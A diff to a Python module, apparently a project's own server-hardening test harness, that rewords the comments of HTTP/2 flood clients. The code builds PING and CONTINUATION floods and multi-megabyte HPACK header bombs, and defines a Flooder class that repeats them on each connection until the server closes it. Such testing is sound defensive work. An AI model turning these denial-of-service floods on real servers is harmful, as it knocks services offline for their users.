@@ -1,4 +1,4 @@
-"""Clients that flood a server with frames of HTTP/2 (RFC 9113) that cost them less than the server."""
+"""Clients that flood a server with HTTP/2 frames (RFC 9113) that cost the clients less work than the server."""
 
 import selectors
 import socket
@@ -19,7 +19,7 @@ _CANCEL = struct.pack(">I", 8)
 _CALL = [
     (":method", "POST"),
     (":scheme", "http"),
-    # A connection with a stream of batches would get a loop of its own at the fast door.
+    # Not a stream of batches, whose connection would get a separate loop at the fast door.
     (":path", "/chatiere.v1.GameService/Apply"),
     (":authority", "localhost"),
     ("te", "trailers"),
@@ -30,10 +30,10 @@ _CALL = [
 LARGE = ("x-large", "a" * 3900)
 _REFERENCE = b"\xbe"
 _OF_FRAME = 2**14
-# Bytes of frames made at a time, at least.
+# The minimum number of bytes of frames generated at a time.
 _AT_A_TIME = 2**13
 _CHUNK = 2**16
-# Seconds between looks for the settings of a server.
+# Seconds between checks for the settings of a server.
 _PAUSE = 0.001
 # The timeout of connecting, in seconds.
 _PATIENCE = 10.0
@@ -54,7 +54,10 @@ def _endless_headers(headers: bytes) -> Iterator[bytes]:
 
 
 def bombs(size: int, of_frame: int) -> Callable[[bytes], Iterator[bytes]]:
-    """Return what makes header lists of `size` references to a large header, in frames of `of_frame` bytes."""
+    """Return a function that makes header lists of `size` references to a large header in frames of a given size.
+
+    `of_frame` is the size of a frame, in bytes.
+    """
 
     def frames(headers: bytes) -> Iterator[bytes]:
         block = headers + size * _REFERENCE
@@ -67,7 +70,7 @@ def bombs(size: int, of_frame: int) -> Callable[[bytes], Iterator[bytes]]:
     return frames
 
 
-# Frames without end, made of a call's headers, beside an open call on stream 1.
+# By name, functions that yield frames without end from a call's headers, while a call on stream 1 is open.
 FloodsByName = dict[str, Callable[[bytes], Iterator[bytes]]]
 FLOODS: FloodsByName = {
     "PING": lambda headers: repeat(_frame(_PING, 0, 0, bytes(8))),
@@ -80,12 +83,12 @@ FLOODS: FloodsByName = {
 }
 LARGE_BOMBS: FloodsByName = {"HEADERS of 4 MB": bombs(4_000_000, 4_100_000)}
 BOMBS: FloodsByName = {"HEADERS of 3 MB": bombs(3_000_000, 3_100_000)}
-# libnghttp2 takes eight frames of CONTINUATION.
+# libnghttp2 accepts eight CONTINUATION frames.
 BLOCKS: FloodsByName = {"header list of 110 kB in CONTINUATION": bombs(110_000, _OF_FRAME)}
 
 
 class Flooder:
-    """An attacker with one connection at a time: each floods with another kind of frame, until the server ends it."""
+    """An attacker with one connection at a time, which sends another kind of frame on each until the server ends it."""
 
     def __init__(
         self,
@@ -96,31 +99,39 @@ class Flooder:
         *,
         acknowledges: bool = True,
     ) -> None:
-        """Connect. `source`: its own address; `came`: counts of what happens. `acknowledges`: the server's settings."""
+        """Connect.
+
+        Args:
+            address: The address of the server.
+            source: The attacker's address.
+            came: Counts of events.
+            kinds: The floods by name, which are sent in turn.
+            acknowledges: True to acknowledge the server's settings.
+        """
         self._address, self._source, self._came, self._acknowledges = address, source, came, acknowledges
         self._floods = kinds
         self._kinds = cycle(kinds)
         self.connect()
 
     def connect(self) -> None:
-        """Connect and begin a call."""
+        """Connect and start a call."""
         self._kind = next(self._kinds)
         self.socket = socket.create_connection(self._address, _PATIENCE, source_address=(self._source, 0))
         http2 = H2Connection()
         http2.initiate_connection()
         http2.send_headers(1, [*_CALL, LARGE])
         sent = http2.data_to_send()
-        # As this leaves the table of header compression as it is, it suits any further stream.
+        # These headers do not change the table of header compression, so they can be used on any later stream.
         http2.send_headers(3, [NeverIndexedHeaderTuple(*header) for header in _CALL])
         self._frames = self._floods[self._kind](http2.data_to_send()[9:])
         self.socket.setblocking(False)
         self._left = memoryview(sent)
-        # Until the server's settings have come.
+        # Used until the server's settings have arrived.
         self._http2: H2Connection | None = http2
         self._came["begun"] += 1
 
     def send(self) -> None:
-        """Send as much as the socket takes at once. Raise OSError if the server has ended the connection."""
+        """Send as much as the socket accepts. Raise OSError if the server has closed the connection."""
         if not self._left and self._http2 is not None:
             time.sleep(_PAUSE)
             return
@@ -132,9 +143,10 @@ class Flooder:
         self._left = self._left[self.socket.send(self._left) :]
 
     def read(self) -> None:
-        """Read what has arrived: the server's settings, which hold once they are acknowledged, and pass over the rest.
+        """Read incoming data. Only the server's settings are used; they take effect when they are acknowledged.
 
-        Raise OSError if the server has ended the connection.
+        Raises:
+            OSError: The server has closed the connection.
         """
         data = self.socket.recv(_CHUNK)
         if not data:
